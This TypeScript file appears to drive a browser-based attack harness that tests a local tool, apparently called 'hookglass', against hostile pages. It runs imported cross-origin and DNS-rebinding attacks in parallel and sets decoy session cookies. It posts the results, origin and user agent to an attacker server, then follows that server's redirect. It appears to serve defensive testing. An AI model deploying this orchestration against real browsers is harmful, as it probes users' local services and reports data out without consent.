/** Runs all attacks by itself and tells the attacker's server, which answers with the next page to go to. */
import { type Attack, type Knowledge, messageOf, nothing, setPatience } from './attack.ts';
import { channels } from './channels.ts';
import { elements } from './elements.ts';
import { aliasAttacks, fetches } from './fetches.ts';
import { forms, windows } from './windows.ts';

interface Told {
  readonly name: string;
  readonly read: string | null;
  readonly note: string;
}

interface Next {
  /** Addresses to attack from inside frames of this page before it goes on. */
  readonly url: string | null;
}

/** So many at once: a browser has six connections for a host. */
const sideBySide = 8;

async function runOne(attack: Attack, knowledge: Knowledge): Promise<Told> {
  const finding = await attack.run(knowledge).catch((error: unknown) => nothing(messageOf(error)));
  return { name: attack.name, ...finding };
}

async function runAll(attacks: readonly Attack[], knowledge: Knowledge, atOnce: number): Promise<readonly Told[]> {
  const told: Told[] = [];
  const left = [...attacks];
  const worker = async () => {
    for (let attack = left.shift(); attack !== undefined; attack = left.shift()) told.push(await runOne(attack, knowledge));
  };
  await Promise.all(Array.from({ length: atOnce }, worker));
  return told;
}

const parameters = new URL(import.meta.url).searchParams;
const attacker = new URL(import.meta.url).origin;
const place = parameters.get('place') ?? '';

async function tell(path: string, body: unknown): Promise<unknown> {
  const answer = await fetch(`${attacker}${path}?place=${encodeURIComponent(place)}`, { method: 'POST', body: JSON.stringify(body) });
  return answer.json();
}

function setCookie(name: string): void {
  // biome-ignore lint/suspicious/noDocumentCookie: attackers do, and the newer way is not in every engine
  document.cookie = `${name}=attack; path=/`;
}

async function main(): Promise<void> {
  const asked: Knowledge = await (await fetch(`${attacker}/knowledge?place=${encodeURIComponent(place)}`)).json();
  const knowledge: Knowledge = asked.isRebound ? { ...asked, base: location.origin } : asked;
  setPatience(knowledge.patienceMs);
  try {
    // why: cookies are shared by all ports of a name; none of these may ever count.
    for (const name of ['token', 'session', 'hookglass', 'authorization']) setCookie(name);
  } catch {
    // A page without an origin has no cookies.
  }
  const quick = [...fetches, ...channels, ...elements, ...forms, ...aliasAttacks(knowledge.isRebound ? [] : knowledge.aliases)];
  const told = [...(await runAll(quick, knowledge, sideBySide)), ...(await runAll(windows, knowledge, 1))];
  const next = await tell('/report', { told, origin: location.origin, agent: navigator.userAgent });
  if (isNext(next) && next.url !== null && window === window.top) location.href = next.url;
}

function isNext(value: unknown): value is Next {
  return typeof value === 'object' && value !== null && 'url' in value;
}

main().catch((error: unknown) => tell('/broken', { problem: messageOf(error) }));
